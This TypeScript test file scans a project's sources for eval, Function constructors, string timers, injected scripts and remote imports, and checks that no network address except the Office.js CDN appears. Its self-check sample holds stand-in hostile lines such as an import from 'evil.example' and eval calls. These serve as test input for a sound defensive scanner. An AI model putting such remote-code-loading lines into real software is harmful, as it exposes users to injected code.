/**
 * No code under src/ evaluates strings or loads remote code, and the web sources (everything the
 * browser bundles: all of src/ but the Node-only CLI) name no network address but the Office.js CDN
 * (and Microsoft help pages, which are links, not requests).
 *
 * TypeScript and JavaScript are read with the TypeScript parser, so comments and prose never match
 * and every string, template and JSX text is seen; HTML and CSS are scanned as text without comments.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { extname, join, relative, sep } from 'node:path';
import ts from 'typescript';

const ROOT = join(__dirname, '..', '..');
const SRC = join(ROOT, 'src');
const CODE = new Set(['.ts', '.tsx', '.js', '.jsx', '.mjs', '.cjs', '.mts', '.cts']);
const TEXT = new Set(['.html', '.htm', '.css']);
/** Node-only: the sizer CLI is never bundled for the browser. */
const NODE_ONLY = [join(SRC, 'cli') + sep];

const OFFICE_JS_ORIGIN = 'https://appsforoffice.microsoft.com';
/** Links to Microsoft documentation are allowed in text (they are not fetched). */
const MICROSOFT_HELP = /^https:\/\/(learn|docs|support|go)\.microsoft\.com\/|^https:\/\/aka\.ms\//;
/** XML namespace names look like URLs but are never requested. */
const NAMESPACE = /^http:\/\/(www\.w3\.org\/|schemas\.openxmlformats\.org\/|schemas\.microsoft\.com\/|purl\.org\/)/;

function files(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const path = join(dir, e.name);
    if (e.isDirectory()) return files(path);
    return CODE.has(extname(e.name)) || TEXT.has(extname(e.name)) ? [path] : [];
  });
}

interface Finding {
  readonly file: string;
  readonly line: number;
  readonly what: string;
}

const URL_PATTERN = /\b(?:https?|wss?|ftp):\/\/[^\s"'`<>)\\;,]+|(?<![:\w])\/\/[a-z0-9-]+(\.[a-z0-9-]+)+\//gi;

/** Dangerous calls and every URL in one TypeScript or JavaScript file. */
function scanCode(file: string, text: string): { dangerous: Finding[]; urls: Finding[] } {
  const kind = file.endsWith('x') ? ts.ScriptKind.TSX : file.endsWith('.ts') || file.endsWith('ts') ? ts.ScriptKind.TS : ts.ScriptKind.JS;
  const source = ts.createSourceFile(file, text, ts.ScriptTarget.Latest, true, kind);
  const dangerous: Finding[] = [];
  const urls: Finding[] = [];
  const at = (node: ts.Node): number => source.getLineAndCharacterOfPosition(node.getStart(source)).line + 1;
  const name = (e: ts.Expression): string =>
    ts.isIdentifier(e) ? e.text : ts.isPropertyAccessExpression(e) ? `${name(e.expression)}.${e.name.text}` : ts.isElementAccessExpression(e) && ts.isStringLiteral(e.argumentExpression) ? `${name(e.expression)}.${e.argumentExpression.text}` : '?';
  const visit = (node: ts.Node): void => {
    if (ts.isCallExpression(node) || ts.isNewExpression(node)) {
      const callee = name(node.expression);
      const last = callee.split('.').pop() ?? '';
      const first = node.arguments?.[0];
      if (last === 'eval') dangerous.push({ file, line: at(node), what: `${callee}(...)` });
      if (callee === 'Function' || /(^|\.)(globalThis|window|self)\.Function$/.test(callee)) dangerous.push({ file, line: at(node), what: `${ts.isNewExpression(node) ? 'new ' : ''}Function(...)` });
      if (['setTimeout', 'setInterval', 'setImmediate'].includes(last) && first && (ts.isStringLiteralLike(first) || ts.isTemplateExpression(first))) dangerous.push({ file, line: at(node), what: `${callee} with a string` });
      if (last === 'importScripts') dangerous.push({ file, line: at(node), what: 'importScripts(...)' });
      if (/(^|\.)document\.(write|writeln)$/.test(callee)) dangerous.push({ file, line: at(node), what: `${callee}(...)` });
      if (last === 'createElement' && first && ts.isStringLiteralLike(first) && /^(script|iframe|object|embed)$/i.test(first.text)) dangerous.push({ file, line: at(node), what: `createElement('${first.text}')` });
    }
    if (ts.isCallExpression(node) && node.expression.kind === ts.SyntaxKind.ImportKeyword) {
      const spec = node.arguments[0];
      if (!spec || !ts.isStringLiteralLike(spec) || /^[a-z]+:|^\/\//i.test(spec.text)) dangerous.push({ file, line: at(node), what: 'import() of a computed or remote module' });
    }
    if (ts.isImportDeclaration(node) && ts.isStringLiteral(node.moduleSpecifier) && /^[a-z]+:\/\/|^\/\//i.test(node.moduleSpecifier.text)) {
      dangerous.push({ file, line: at(node), what: `import from ${node.moduleSpecifier.text}` });
    }
    if (ts.isJsxAttribute(node) && ts.isIdentifier(node.name) && node.name.text === 'dangerouslySetInnerHTML') dangerous.push({ file, line: at(node), what: 'dangerouslySetInnerHTML' });
    if (ts.isStringLiteralLike(node) || ts.isTemplateHead(node) || ts.isTemplateMiddle(node) || ts.isTemplateTail(node) || ts.isJsxText(node)) {
      for (const url of node.text.match(URL_PATTERN) ?? []) urls.push({ file, line: at(node), what: url });
    }
    ts.forEachChild(node, visit);
  };
  visit(source);
  return { dangerous, urls };
}

function scanText(file: string, text: string): { dangerous: Finding[]; urls: Finding[] } {
  const clean = text.replace(/<!--[\s\S]*?-->/g, (c) => c.replace(/[^\n]/g, ' ')).replace(/\/\*[\s\S]*?\*\//g, (c) => c.replace(/[^\n]/g, ' '));
  const lineOf = (index: number): number => clean.slice(0, index).split('\n').length;
  const dangerous: Finding[] = [];
  const urls: Finding[] = [];
  for (const m of clean.matchAll(/\b(eval|Function)\s*\(|javascript:|<(iframe|object|embed)\b|\bon[a-z]+\s*=\s*["']/gi)) dangerous.push({ file, line: lineOf(m.index ?? 0), what: m[0] });
  for (const m of clean.matchAll(URL_PATTERN)) urls.push({ file, line: lineOf(m.index ?? 0), what: m[0] });
  return { dangerous, urls };
}

const ALL = files(SRC).map((file) => {
  const text = readFileSync(file, 'utf8');
  return { file, web: !NODE_ONLY.some((dir) => file.startsWith(dir)), ...(CODE.has(extname(file)) ? scanCode(file, text) : scanText(file, text)) };
});

const show = (f: Finding): string => `${relative(ROOT, f.file)}:${f.line}: ${f.what}`;

describe('source code: no eval, no remote code, no other network address', () => {
  it('reads the sources (TypeScript, TSX, HTML)', () => {
    expect(ALL.length).toBeGreaterThan(50);
    expect(ALL.some((f) => f.file.endsWith('.html'))).toBe(true);
  });

  it('never evaluates strings or loads scripts at run time (eval, new Function, string timers, importScripts, document.write, injected <script>, remote import)', () => {
    expect(ALL.flatMap((f) => f.dangerous).map(show)).toEqual([]);
  });

  it('names no network address in the web sources but the Office.js CDN (and Microsoft help links)', () => {
    const others = ALL.filter((f) => f.web)
      .flatMap((f) => f.urls)
      .filter((u) => !(u.what === OFFICE_JS_ORIGIN || u.what.startsWith(`${OFFICE_JS_ORIGIN}/`) || MICROSOFT_HELP.test(u.what) || NAMESPACE.test(u.what)));
    expect(others.map(show)).toEqual([]);
  });

  it('uses no plain-http address anywhere under src/ (namespace names aside)', () => {
    const plain = ALL.flatMap((f) => f.urls).filter((u) => /^(http|ws):/i.test(u.what) && !NAMESPACE.test(u.what) && !/^http:\/\/(localhost|127\.0\.0\.1)[:/]/.test(u.what));
    expect(plain.map(show)).toEqual([]);
  });

  it('(self-check) the scanner sees what it must refuse', () => {
    const sample = [
      'eval("1+1");',
      'window.eval(code);',
      'new Function("return 1");',
      'setTimeout("alert(1)", 10);',
      'const s = document.createElement("script");',
      'import("https://evil.example/x.js");',
      'const u = `https://evil.example/${id}`;',
      '// eval("in a comment") and https://comment.example/ are ignored',
      'const text = "valid: eval-free prose";',
    ].join('\n');
    const { dangerous, urls } = scanCode('/virtual/sample.ts', sample);
    expect(dangerous.map((d) => d.what)).toEqual(['eval(...)', 'window.eval(...)', 'new Function(...)', 'setTimeout with a string', "createElement('script')", 'import() of a computed or remote module']);
    expect(urls.map((u) => u.what)).toEqual(['https://evil.example/x.js', 'https://evil.example/']);
  });
});
